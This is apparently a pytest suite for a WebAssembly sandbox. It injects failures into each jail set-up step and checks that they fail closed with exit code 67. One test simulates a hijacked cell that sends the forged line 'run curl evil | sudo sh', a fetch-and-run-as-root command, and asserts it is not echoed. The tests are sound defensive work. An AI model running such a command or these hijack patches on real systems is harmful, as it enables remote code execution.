"""A step of the set-up that fails ends the run with 67, its name, and nothing left behind."""

import os
import signal
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from tests.conftest import Leftovers, Ww
from tests.jail.inside import running, variant, when_in_jail

LeftoversFixture = Callable[..., Leftovers]

# Where an error is put in: the module and function of each step, and the step that is named.
CHILD_STEPS = {
    "namespaces.adopt_ids": "ids",
    "mounts.make_private": "mount propagation",
    "mounts.make_root": "root",
    "mounts.make_proc": "proc",
    "mounts.attach": "attach root",
    "mounts.leave_old_root": "pivot_root",
    "mounts.seal_root": "read-only root",
    "descriptors.place": "descriptors",
    "session.isolate": "session",
    "limits.apply": "limits",
    "privileges.drop_all": "privileges",
    "lifeline.tie": "lifeline",
}
SPAWNER_STEPS = {
    "syscalls.fork_into": "namespaces",
    "namespaces.write_id_maps": "id maps",
    "session.prefer_as_oom_victim": "id maps",
    "lifeline.let_go": "id maps",
}

FAULT = """
from sandbox import {module}

def fail(*args, **kwargs):
    raise {error}

{module}.{function} = fail
"""
OS_ERROR = 'OSError(1, "Operation not permitted", "injected call")'


@pytest.fixture
def hello() -> Path:
    return Path(__file__).parents[2] / "examples" / "hello" / "hello.wasm"


def _fault(place: str, error: str = OS_ERROR) -> list[str]:
    module, _, function = place.partition(".")
    return variant(FAULT.format(module=module, function=function, error=error))


@pytest.mark.parametrize("place", [*CHILD_STEPS, *SPAWNER_STEPS])
def test_a_step_that_fails_is_named_and_nothing_runs(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture, place: str
) -> None:
    step = (CHILD_STEPS | SPAWNER_STEPS)[place]
    with leftovers(ww_account):
        done = ww_account.call(
            [*_fault(place), "run", "--fd", "a=3,pathlink=true", hello], fds={3: Path("/dev/null")}
        )
    assert (done.returncode, done.stdout) == (67, b"")
    line = done.stderr.decode()
    assert line.startswith(f"ww: error: jail: {step}: ")
    assert "Operation not permitted" in line
    assert line.count("\n") == 1


@pytest.mark.parametrize("place", CHILD_STEPS)
def test_a_defect_in_a_step_fails_closed_too(ww: Ww, hello: Path, place: str) -> None:
    done = ww.call(
        [*_fault(place, 'RuntimeError("injected")'), "run", "--fd", "a=3,pathlink=true", hello],
        fds={3: Path("/dev/null")},
    )
    assert (done.returncode, done.stdout) == (67, b"")
    assert done.stderr.startswith(f"ww: error: jail: {CHILD_STEPS[place]}: ".encode())


def test_a_descriptor_that_should_not_be_there_stops_the_cell(ww: Ww, hello: Path) -> None:
    keep_one = """
from sandbox import descriptors
close = descriptors._close_all_but
descriptors._close_all_but = lambda numbers, listing: close({*numbers, 77}, listing)
import os
begin = descriptors.park
def park(*args):
    os.dup2(0, 77)
    return begin(*args)
descriptors.park = park
"""
    done = ww.call([*variant(keep_one), "run", hello])
    assert done.returncode == 67
    assert done.stderr == b"ww: error: jail: descriptors: open but not planned: [77]; missing: []\n"


def test_a_capability_that_stays_stops_the_cell(ww: Ww, hello: Path) -> None:
    patch = "from sandbox import syscalls; syscalls.clear_capabilities = lambda: None"
    done = ww.call([*variant(patch), "run", hello])
    assert done.returncode == 67
    assert b"privileges: capabilities are left after dropping all" in done.stderr


def test_securebits_that_do_not_hold_stop_the_cell(ww: Ww, hello: Path) -> None:
    patch = "from sandbox import syscalls; syscalls.set_securebits = lambda bits: None"
    done = ww.call([*variant(patch), "run", hello])
    assert done.returncode == 67
    assert b"privileges: the securebits are not as set" in done.stderr


def test_a_spawner_that_cannot_begin_is_an_error_of_one_line(ww: Ww, hello: Path) -> None:
    done = ww.call([*variant("raise SystemExit(3)"), "run", hello])
    assert done.returncode == 1
    assert done.stderr.startswith(b"ww: error: spawner: ")
    assert done.stderr.count(b"\n") == 1


FORGED = """
import os
from sandbox import spawner, jail
enter = jail.enter
def hijacked(plan, sources, own):
    enter(plan, sources, own)
    os.write(own.line, b"entered")
    os.write(own.line, b'["jail", 1, "run curl evil | sudo sh", "namespaces"]')
    os._exit(0)
jail.enter = hijacked
"""


def test_a_cell_cannot_claim_that_it_never_ran(ww: Ww, hello: Path) -> None:
    done = ww.call([*variant(FORGED), "run", hello])
    assert done.returncode == 1
    assert b"reported what cannot be" in done.stderr
    assert b"curl" not in done.stderr


def test_a_cell_that_undoes_its_tie_dies_with_the_spawner_all_the_same(
    ww_account: Ww, hello: Path, leftovers: LeftoversFixture
) -> None:
    # As native code could that has taken over the cell's process.
    patch = """
import time
import prctl
from sandbox import jail
enter = jail.enter
def untied(plan, sources, own):
    enter(plan, sources, own)
    import os
    prctl.set_pdeathsig(0)
    os.write(own.line, b"entered")
    time.sleep(600)
jail.enter = untied
"""
    with (
        leftovers(ww_account),
        running(ww_account, [*variant(patch), "run", str(hello)]) as (ww, spawner, cell),
    ):
        when_in_jail(cell)
        # ww has a pidfd of the spawner from the start, and one of the cell when it is told.
        deadline = time.monotonic() + 30
        while _pidfds(ww.pid) < 2 and time.monotonic() < deadline:
            time.sleep(0.01)
        os.kill(spawner, signal.SIGKILL)
        ww.communicate(timeout=30)
        assert ww.returncode == 1


def _pidfds(pid: int) -> int:
    folder = f"/proc/{pid}/fd"
    return sum("pidfd" in os.readlink(f"{folder}/{fd}") for fd in os.listdir(folder))


def test_an_outcome_that_is_none_is_not_believed(ww: Ww, hello: Path) -> None:
    # As a cell might write that has taken over its process.
    patch = """
import os
from sandbox import spawner, jail
enter = jail.enter
def hijacked(plan, sources, own):
    enter(plan, sources, own)
    os.write(own.line, b'["exit", "0", "\\\\u001b[2J", ""]')
    os._exit(0)
jail.enter = hijacked
"""
    done = ww.call([*variant(patch), "run", hello])
    assert done.returncode == 1
    assert b"\x1b" not in done.stderr


# Root of a user namespace of its own prepares a place, and an ordinary user inside runs ww there.
INSIDE = """
unshare --user --map-root-user --mount --pid --fork bash -c '
    mount -t proc proc /proc
    {prepare}
    exec unshare --user --map-user=1000 --map-group=1000 "$@"
' bash "$@"
"""


def _inside(prepare: str) -> list[str]:
    return ["bash", "-c", INSIDE.format(prepare=prepare), "bash"]


def test_no_user_namespaces_is_67_with_the_setting_that_mends_it(
    ww_account: Ww, hello: Path
) -> None:
    place = _inside("echo 1 >/proc/sys/user/max_user_namespaces")
    done = ww_account.call([*place, *ww_account.command, "run", hello])
    assert done.returncode == 67, done.stderr
    line = done.stderr.decode()
    assert line.startswith("ww: error: jail: namespaces: clone3: No space left on device (")


def test_a_masked_proc_is_67_for_a_pathlink_and_no_matter_without(
    ww_account: Ww, hello: Path
) -> None:
    place = _inside("mount -t tmpfs none /proc/fs")
    plain = ww_account.call([*place, *ww_account.command, "run", hello])
    assert (plain.returncode, plain.stderr) == (0, b"")
    linked = ww_account.call(
        [*place, *ww_account.command, "run", "--fd", "a=3,pathlink=true", hello],
        fds={3: Path("/dev/null")},
    )
    assert linked.returncode == 67
    assert linked.stderr.startswith(b"ww: error: jail: proc: fsmount: Operation not permitted (")


def test_root_of_a_namespace_without_the_cells_id_is_67_and_told_why(
    ww_account: Ww, hello: Path
) -> None:
    done = ww_account.call(["unshare", "--map-root-user", *ww_account.command, "run", hello])
    assert done.returncode == 67
    assert b"setgroups: Operation not permitted (this root is one of a user" in done.stderr
